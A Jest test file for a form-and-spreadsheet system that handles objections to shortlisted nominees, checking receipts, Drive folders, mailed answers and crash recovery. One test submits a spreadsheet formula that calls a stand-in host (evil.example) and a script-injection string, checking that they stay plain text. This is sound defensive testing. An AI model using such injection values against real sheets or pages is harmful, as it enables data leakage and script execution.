// Objections by form and by hand: taken in once, marked, acknowledged, filed in a folder of their own, answered by mail when settled.
import { expect, test } from '@jest/globals';
import { publishForm } from '../../../src/local/hand/form';
import type { Answers } from '../../../src/local/hand/form-answers';
import { answerLink } from '../../../src/local/hand/form-links';
import { ServiceError } from '../../../src/local/runtime/service';
import { type FileRecord, isTrashed } from '../../../src/local/services/drive/files';
import { type Campaign, DAY, HOUR, ORGANIZER, openCampaign } from '../../support/campaign';
import { leftBehind } from '../../support/outline';
import { overviewLine } from '../../support/overview';
import { nominees, object, paperFiles, said, shortlisted } from '../publicity/shortlisted';

const FOLDER = 'application/vnd.google-apps.folder';

function opened(count = 3, reserves = 1): { campaign: Campaign; link: string } {
  const campaign = openCampaign(shortlisted(nominees(count, reserves)));
  const click = campaign.click('menuOpenObjectionForm');
  return { campaign, link: /https:\S+/.exec(click.dialogs[0]!.message)![0] };
}

const REAL: Answers = {
  反映的对象: '2021-0002',
  反映的具体事实: '事迹中所写的奖项不是本人获得。',
  '反映人姓名（单位反映的填单位名称和经办人）': '某甲',
  联系电话: '13800000000',
  邮箱: 'jia@example.com',
};
const ANONYMOUS: Answers = { 反映的对象: '某人', 反映的具体事实: '听说不在岗。' };

function later(campaign: Campaign, ms = HOUR): void {
  campaign.wait(ms);
  campaign.sweep();
}

/** Folders of objections, by name, with how many people but the owner may see them. */
function folders(campaign: Campaign): string[] {
  const { store } = campaign.workspace;
  const files = Object.values(store.get<Record<string, FileRecord>>('drive', 'files') ?? {});
  const root = files.find(({ name, mimeType }) => name === '异议材料' && mimeType === FOLDER);
  return files
    .filter((file) => root !== undefined && file.parents.includes(root.id) && !isTrashed(store, file))
    .map(({ name, permissions }) => `${name} ${permissions.length}`)
    .sort();
}

test('before, within and after the period; the notice prints the address; receipt, folder, answer', () => {
  const { campaign, link } = opened();
  expect(overviewLine(campaign, '异议表单')).toMatch(/^正在接收，2022-\d\d-\d\d 自动关闭$/);
  answerLink(campaign.workspace, link, { ...REAL, 反映的对象: `${nominees(3)[0]!.name}（单位不详）` });
  later(campaign, DAY);
  campaign.click('menuMakeNotice');
  expect(paperFiles(campaign).docs[0]!.html).toContain(`也可在网上填写异议反映表：${link}。`);
  campaign.wait(DAY);
  answerLink(campaign.workspace, link, REAL);
  later(campaign);
  campaign.wait(10 * DAY);
  answerLink(campaign.workspace, link, ANONYMOUS);
  later(campaign);
  later(campaign);
  const rows = campaign.rows('objections');
  expect(
    rows.map((row) => [row.objection_id, row.nomination_id, row.timing, row.objection_state, row.handle_by]),
  ).toEqual([
    ['YY-1', '2021-0001', '公示前', '待核实', '2022-02-15'],
    ['YY-2', '2021-0002', '公示期内', '待核实', '2022-02-17'],
    ['YY-3', '', '公示期满后', '登记备查', '2022-02-27'],
  ]);
  expect(rows[1]).toMatchObject({ objector: '某甲', contact: '电话 13800000000，邮箱 jia@example.com' });
  expect(campaign.mail.map(({ subject }) => subject.split('】')[1])).toEqual([
    '异议收件回执（YY-1）',
    '异议收件回执（YY-2）',
  ]);
  expect(folders(campaign)).toEqual(['YY-1 某甲 0', 'YY-2 某甲 0', 'YY-3 0']);
  expect(rows.every((row) => String(row.folder).startsWith('https://drive.google.com/drive/folders/'))).toBe(
    true,
  );

  // Settled: the answer leaves with the click on 办理异议, once.
  const at = campaign.rowOf('objections', 'objection_id', 'YY-2');
  campaign.type('objections', at, 'objection_state', '不属实');
  campaign.type('objections', at, 'answer', '=经核实，<b>奖项</b>为本人获得。');
  campaign.scheduler.settle();
  expect(campaign.mail).toHaveLength(2);
  campaign.type('objections', at, 'answer', '经核实，<b>奖项</b>为本人获得。');
  const click = campaign.click('menuSettleObjections');
  expect(click.toasts.join('')).toContain('将答复寄给 1 位留有邮箱的反映人。');
  campaign.click('menuSettleObjections');
  later(campaign);
  expect(campaign.mail.slice(2).map(({ to, subject }) => [to[0], subject.split('】')[1]])).toEqual([
    ['jia@example.com', '异议核实答复（YY-2）'],
  ]);
  expect(campaign.mail[2]!.body).toContain('结论为“不属实”。现答复如下：\n\n经核实，<b>奖项</b>为本人获得。');
});

test('hand-typed letters keep working and get a folder; the sidebar says what is unsettled, by when, by whom', () => {
  const { campaign } = opened();
  campaign.click('menuMakeNotice');
  object(campaign, { nomination_id: '2021-0003', objector: '某乙', contact: '来信', objection: '不同意' });
  expect(campaign.rows('objections').map((row) => row.objection_id)).toEqual(['YY-1']);
  expect(folders(campaign)).toEqual(['YY-1 某乙 0']);
  const view = campaign.click('webWorkbench').report.value as { waiting: { sentence: string }[] };
  expect(view.waiting.map(({ sentence }) => sentence).slice(0, 2)).toEqual([
    '有 1 件异议没有办结，公示期到2022年2月16日止，还有 6 天。',
    '异议 YY-1 还没有承办人。',
  ]);
});

test('as the settings say, anonymous objections are not taken; hostile texts stay text', () => {
  const { campaign, link } = opened();
  campaign.type('settings', campaign.rowOf('settings', 'key', 'publicity.anonymous'), 'value', '不予受理');
  answerLink(campaign.workspace, link, {
    ...ANONYMOUS,
    反映的对象: '=IMPORTXML("http://evil.example","//a")',
    反映的具体事实: '<script>alert(1)</script>\n=1+1',
  });
  later(campaign);
  expect(campaign.rows('objections').map((row) => [row.objection_state, row.objection])).toEqual([
    ['不予受理', '反映对象：=IMPORTXML("http://evil.example","//a")\n<script>alert(1)</script>\n=1+1'],
  ]);
  expect(campaign.mail).toEqual([]);
});

test('a sweep with nothing new: 11 calls; with 1 and with 20 objections: 15, and 3 for each', () => {
  for (const count of [1, 20]) {
    const { campaign, link } = opened();
    later(campaign);
    answerLink(campaign.workspace, link, REAL);
    later(campaign);
    later(campaign);
    expect(campaign.callsOf(campaign.lastRun('onSweep').id)).toHaveLength(11);
    for (let at = 0; at < count; at += 1) answerLink(campaign.workspace, link, REAL);
    later(campaign);
    expect(campaign.rows('objections')).toHaveLength(count + 1);
    expect(campaign.callsOf(campaign.lastRun('onSweep').id).length - 3 * count).toBe(15);
  }
});

test('taking an objection in, died over at any call, then swept: one row, one folder, one receipt', () => {
  const { campaign: start, link } = opened();
  answerLink(start.workspace, link, REAL);
  const states = leftBehind(start, () => later(start));
  expect(states.length).toBeGreaterThan(4);
  for (const { call, snapshot } of states) {
    const campaign = openCampaign(snapshot);
    later(campaign);
    later(campaign);
    const uncertain = campaign.rows('outbox').filter((row) => row.state === '待核实').length;
    expect({
      call,
      rows: campaign.rows('objections').length,
      folders: folders(campaign),
      mails: uncertain === 1 && /setProperty/.test(call) ? 1 : campaign.mail.length,
      uncertain: uncertain === 0 || /setProperty|sendEmail/.test(call),
    }).toEqual({ call, rows: 1, folders: ['YY-1 某甲 0'], mails: 1, uncertain: true });
  }
});

test('an account that may not publish to everybody: told what to do by hand, told again as long as it is not done, then opened', () => {
  const campaign = openCampaign(shortlisted(nominees(3)));
  campaign.disturb({
    before: ({ service, method }) => {
      if (service === 'Drive' && method === 'Permissions.create')
        throw new ServiceError('The domain administrators have disabled public access.');
    },
  });
  const [first, second] = [campaign.click('menuOpenObjectionForm'), campaign.click('menuOpenObjectionForm')];
  for (const click of [first, second]) {
    expect(said(click)).toContain('不能由程序开放填写');
    expect(said(click)).toContain('在“回复者”中选“知道链接的任何人”');
    expect(said(click)).not.toContain('/viewform');
  }
  const formId = /forms\/d\/([^/]+)\/edit/.exec(said(first))![1]!;
  publishForm(campaign.workspace, ORGANIZER, formId);
  const third = said(campaign.click('menuOpenObjectionForm'));
  campaign.calm();
  answerLink(campaign.workspace, /https:\S+viewform/.exec(third)![0], REAL);
  later(campaign);
  expect(campaign.rows('objections').map((row) => row.objection_id)).toEqual(['YY-1']);
});
